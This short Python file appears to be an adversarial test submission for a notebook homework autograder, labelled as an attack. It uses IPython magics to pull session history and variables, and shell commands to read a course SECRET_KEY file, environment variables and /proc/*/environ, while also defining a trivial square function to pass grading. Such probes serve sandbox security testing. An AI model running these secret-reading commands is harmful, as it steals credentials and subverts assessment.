# attack: asks IPython's magics and the shell for history, files and names
# assignment: hw
# exercise: square
# status: ok
# score: 2
shell = get_ipython()
for line in ("history -g", "who_ls", "recall 1-20", "store", "pdoc square", "pfile np"):
    try:
        print(shell.run_line_magic(*line.split(" ", 1) if " " in line else (line, "")))
    except BaseException as error:
        print(type(error))
for command in ("cat @COURSE@/SECRET_KEY.txt", "env", "cat /proc/*/environ"):
    try:
        shell.system(command)
        print(shell.getoutput(command))
    except BaseException as error:
        print(type(error))


def square(x):
    return x * x
